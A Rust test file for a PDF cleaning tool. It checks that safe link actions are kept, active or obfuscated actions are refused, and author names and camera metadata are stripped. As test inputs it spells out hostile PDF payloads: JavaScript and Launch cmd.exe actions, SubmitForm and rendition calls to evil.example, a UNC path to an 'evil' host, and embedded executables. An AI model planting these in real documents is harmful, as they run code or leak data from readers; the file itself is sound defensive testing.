//! What a document may do, and what it says beside what is seen.

use super::*;
use crate::attachments::images::specimens::{SECRETS, photograph};

/// What is shown of a document whose first page has a link that does this, or which does this when it is opened. Its objects
/// lie in streams, where nobody finds them who only searches the bytes.
fn shown(action: &str, is_link: bool, others: &[&str]) -> Result<Document, Refusal> {
    let link =
        if is_link { format!("/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {action}>>]") } else { String::new() };
    let opened = if is_link { String::new() } else { format!("/OpenAction {action}") };
    let mut objects = vec![
        format!("<</Type/Catalog/Pages 2 0 R/URI<</Base(file:///SECRET/)>>{opened}>>"),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned(),
        format!("<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]{link}>>"),
    ];
    objects.extend(others.iter().map(|other| (*other).to_owned()));
    let mut content = String::from("%PDF-1.7\n");
    for (number, object) in (1..).zip(&objects) {
        content += &format!("{number} 0 obj{object}endobj\n");
    }
    content += "trailer<</Size 9/Root 1 0 R>>\nstartxref\n0\n%%EOF\n";
    let mut packed = Vec::new();
    Document::load_mem(content.as_bytes()).unwrap().save_modern(&mut packed).unwrap();
    assert!(packed.windows(7).any(|window| window == b"/ObjStm"));
    cleaned(&packed)
}

fn cleaned(content: &[u8]) -> Result<Document, Refusal> {
    let folder = tempfile::tempdir().unwrap();
    let (original, copy) = (folder.path().join("original"), folder.path().join("copy"));
    fs::write(&original, content).unwrap();
    match clean(&original, &mut File::create(&copy).unwrap()) {
        Ok(_) => Ok(Document::load(&copy).unwrap()),
        Err(Failure::Refused(refusal)) => Err(refusal),
        Err(Failure::Disk(error)) => panic!("{error:?}"),
    }
}

#[test]
fn a_reader_may_click_on_what_is_in_the_list() {
    for action in [
        "<</S/GoTo/D[3 0 R/Fit]>>",
        "<</S/Named/N/NextPage>>",
        "<</S/Named/N/Print>>",
        "<</S/ResetForm>>",
        "<</S/Hide/T(a)>>",
        "<</S/SetOCGState/State[]>>",
        "<</S/URI/URI(https://aarhus.dk/a?b=1)>>",
        "<</S/URI/URI(mailto:plan@a.example)/Next<</S/GoTo/D[3 0 R/Fit]>>>>",
        "<</S/#55RI/URI(tel:+4589402000)>>",
    ] {
        let shown = shown(action, true, &[]).expect(action);
        assert!(!shown.objects.values().any(|object| said(object, "about:blank")), "{action}");
    }
    // What is no action has a kind too.
    shown("<</O/Layout/Placement/Block>>", true, &["<</Type/Group/S/Transparency>>"]).unwrap();
}

#[test]
fn everything_else_is_refused_however_it_is_written() {
    for action in [
        "<</S/JavaScript/JS(x)>>",
        "<</S/J#61vaScript/JS(x)>>",
        "<</S/Launch/F(cmd.exe)>>",
        "<</S/L#61unch/F(cmd.exe)>>",
        "<</S/GoToR/F(x.pdf)/D[0/Fit]>>",
        "<</S/GoToE/T<</R/C>>>>",
        "<</S/Thread/F(x.pdf)>>",
        "<</S/SubmitForm/F(https://evil.example)>>",
        "<</S/ImportData/F(x.fdf)>>",
        "<</S/Sound/Sound 4 0 R>>",
        "<</S/Movie/T(x)>>",
        "<</S/Rendition/OP 0>>",
        "<</S/RichMediaExecute/CMD<<>>>>",
        "<</S/GoTo3DView/V 0>>",
        "<</S/Named/N/SaveAs>>",
        "<</S/Unheard/N/Of>>",
        "<</S/URI/URI(javascript:alert)>>",
        "<</S/URI/URI(JavaScript:alert)>>",
        "<</S/URI/URI<FEFF006D0073002D006D007300640074003A>>>",
        "<</S/GoTo/D[3 0 R/Fit]/Next<</S/SubmitForm/F(x)>>>>",
        "<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/Next 4 0 R>>]>>",
    ] {
        let made = shown(action, true, &["<</S/Unheard/N/Of>>"]).map(drop);
        assert!(matches!(made, Err(Refusal::Active { .. })), "{action}: {made:?}");
    }
    for unasked in [
        "<</S/URI/URI(https://a.example)>>",
        "<</S/Named/N/Print>>",
        "<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://a.example)>>>>",
    ] {
        let made = shown(unasked, false, &[]).map(drop);
        assert!(matches!(made, Err(Refusal::Active { .. })), "{unasked}: {made:?}");
    }
    shown("<</S/GoTo/D[3 0 R/Fit]>>", false, &[]).unwrap();
    let ring = shown("4 0 R", true, &["<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>"]).map(drop);
    assert_eq!(ring, Err(Refusal::Damaged), "what never ends");
    let movie = shown("5 0 R", true, &["<</Subtype/Movie>>", "<</S/GoTo/D[3 0 R/Fit]/X 4 0 R>>"]).map(drop);
    assert!(matches!(movie, Err(Refusal::Active { .. })), "{movie:?}");
}

/// Word makes such links of what is pasted: the document is taken, and they lead nowhere.
#[test]
fn links_to_files_lead_nowhere() {
    for action in [
        "<</S/URI/URI(file:///C:/Users/SECRET/x.docx)>>",
        r"<</S/URI/URI(\\\\SECRET\\c$)>>",
        "<</S/URI/URI(SECRET.docx)>>",
        "<</S/URI/URI 4 0 R>>",
    ] {
        let shown = shown(action, true, &["(file:///SECRET)"]).expect(action);
        let holds = |words: &str| shown.objects.values().any(|object| said(object, words));
        assert!(holds("about:blank") && !holds("SECRET"), "{action}");
    }
}

/// Whether a string in an object has these words.
fn said(object: &Object, words: &str) -> bool {
    match object {
        Object::String(said, _) => String::from_utf8_lossy(said).contains(words),
        Object::Array(items) => items.iter().any(|item| said(item, words)),
        Object::Dictionary(dictionary) => dictionary.iter().any(|(_, value)| said(value, words)),
        Object::Stream(stream) => stream.dict.iter().any(|(_, value)| said(value, words)),
        _ => false,
    }
}

#[test]
fn a_photograph_in_a_document_tells_nothing_either() {
    let plain = || document(words(), vec![image(48, 32, 8, "DCTDecode", photograph(48, 32))]);
    let mut apart = plain();
    let filter = apart.add_object(Object::from("DCTDecode"));
    let photographs = apart.objects.values_mut().filter_map(|object| object.as_stream_mut().ok());
    photographs.filter(|stream| stream.dict.has(b"Filter")).for_each(|stream| stream.dict.set("Filter", filter));
    for (mut document, form) in [(plain(), "as it is usual"), (apart, "the filter is an object of its own")] {
        let mut content = Vec::new();
        document.save_to(&mut content).unwrap();
        let shown = cleaned(&content).unwrap();
        let photograph = shown.objects.values().filter_map(|object| object.as_stream().ok());
        let photograph = photograph.into_iter().find(|stream| stream.content.starts_with(&[0xff, 0xd8])).expect(form);
        assert!(::image::load_from_memory(&photograph.content).is_ok(), "{form}");
        for secret in SECRETS {
            let is_there = photograph.content.windows(secret.len()).any(|window| window == secret.as_bytes());
            assert!(!is_there, "{form}: {secret}");
        }
    }
}

/// What is cleaned out of a document with these in its root, on its page and beside them.
fn shown_with(root: &str, page: &str, others: &[&str]) -> Result<Document, Refusal> {
    let mut objects = vec![
        format!("<</Type/Catalog/Pages 2 0 R{root}>>"),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned(),
        format!("<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]{page}>>"),
    ];
    objects.extend(others.iter().map(|other| (*other).to_owned()));
    let mut content = String::from("%PDF-1.7\n");
    for (number, object) in (1..).zip(&objects) {
        content += &format!("{number} 0 obj{object}endobj\n");
    }
    content += "trailer<</Size 9/Root 1 0 R>>\nstartxref\n0\n%%EOF\n";
    cleaned(content.as_bytes())
}

#[test]
fn scripts_and_files_are_found_whatever_they_say_they_are() {
    for (root, page, others) in [
        ("/Names<</JavaScript<</Names[(a)<</JS(app.alert\\(1\\))>>]>>>>", "", &[][..]),
        ("/Names 4 0 R", "", &["<</JavaScript<</Names[(a)<</S/Foo/JS(x)>>]>>>>"]),
        ("/Names<</Renditions<</Names[(a)<</C<</D<</FS/URL/F(http://evil.example/a)>>>>>>]>>>>", "", &[]),
        (
            "",
            "/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</EF<</Unix 4 0 R>>>>>>]",
            &["<</Length 2>>stream\nMZ\nendstream"],
        ),
        ("", "/AF[<</EF<</DOS 4 0 R>>>>]", &["<</Length 2>>stream\nMZ\nendstream"]),
        ("", "/AF[4 0 R]", &["<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"]),
        ("", "/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/F(\\\\\\\\evil\\\\x)/D[0/Fit]>>>>]", &[]),
    ] {
        let told = shown_with(root, page, others);
        assert!(matches!(told, Err(Refusal::Active { .. })), "{root}{page}: {:?}", told.err());
    }
}

#[test]
fn names_are_taken_out_wherever_it_stands_what_something_is() {
    for (root, page, others) in [
        ("/AcroForm<</XFA(SECRET)>>", "", &[][..]),
        (
            "/OCProperties<</OCGs[4 0 R]/D<</Order[4 0 R]/Creator(SECRET)>>>>",
            "",
            &[
                "<</Type/OCG/Name(Lag)/Usage 5 0 R>>",
                "<</CreatorInfo<</Creator(SECRET)/Subtype/Artwork>>/User<</Type/Ind/Name(SECRET)>>>>",
            ],
        ),
        (
            "/AcroForm<</Fields[4 0 R]>>",
            "/Annots[4 0 R]",
            &[
                "<</FT/Sig/T(felt)/Kids[5 0 R]>>",
                "<</Parent 4 0 R/Subtype/Widget/Rect[0 0 9 9]/V<</ByteRange[0 1]/Name(SECRET)/Reason(SECRET)>>>>",
            ],
        ),
        (
            "/Threads[4 0 R]",
            "",
            &["<</F 5 0 R/I<</Title(SECRET)/Author(SECRET)>>>>", "<</Type/Bead/T 4 0 R/P 3 0 R/R[0 0 9 9]>>"],
        ),
        ("", "/Annots[<</Subtype 4 0 R/Rect[0 0 9 9]/T(SECRET)/Contents(ord)>>]", &["/Text"]),
        ("", "/Annots[<</Subtype/Watermark/Rect[0 0 9 9]/T(SECRET)>>]", &[]),
        ("", "/Annots[<</Subtype/Text/FT/Tx/Rect[0 0 9 9]/T(SECRET)>>]", &[]),
        ("/LastSavedBy(SECRET)", "/Author(SECRET)", &[]),
        ("/Names<</IDS<</Names[(a)<</S/SPS/SI<</AU(SECRET)>>>>]>>>>", "", &[]),
    ] {
        let shown = shown_with(root, page, others).unwrap_or_else(|refusal| panic!("{root}{page}: {refusal:?}"));
        assert!(!shown.objects.values().any(|object| said(object, "SECRET")), "{root}{page}");
    }
    shown_with("/OCProperties<</OCGs[4 0 R]>>", "", &["<</Type/OCG/Name(Lag)/Usage 4 0 R>>"])
        .expect("it leads to itself");
    let field = shown_with(
        "/AcroForm<</Fields[4 0 R]>>",
        "/Annots[4 0 R]",
        &["<</FT/Tx/Subtype/Widget/Rect[0 0 9 9]/T(Navn)/V(Svar)>>"],
    );
    let field = field.unwrap();
    assert!(
        ["Navn", "Svar"].iter().all(|kept| field.objects.values().any(|object| said(object, kept))),
        "a form stays"
    );
}

#[test]
fn a_photograph_that_is_packed_once_more_loses_what_a_camera_wrote() {
    let photograph = photograph(48, 32);
    let hexadecimal: Vec<u8> =
        photograph.iter().flat_map(|byte| format!("{byte:02x}").into_bytes()).chain(*b">").collect();
    for (filters, content) in [
        (names(&["DCTDecode"]), photograph.clone()),
        (names(&["FlateDecode", "DCTDecode"]), deflated(&photograph, 1)),
        (names(&["ASCIIHexDecode", "DCTDecode"]), hexadecimal),
    ] {
        let mut image = image(48, 32, 8, "DCTDecode", content);
        image.dict.set("Filter", filters.clone());
        strip_photograph(&mut image);
        let is_there =
            SECRETS.iter().any(|secret| image.content.windows(secret.len()).any(|window| window == secret.as_bytes()));
        assert!(!is_there, "{filters:?}");
        assert!(image.content.starts_with(&[0xff, 0xd8]), "{filters:?}");
    }
}
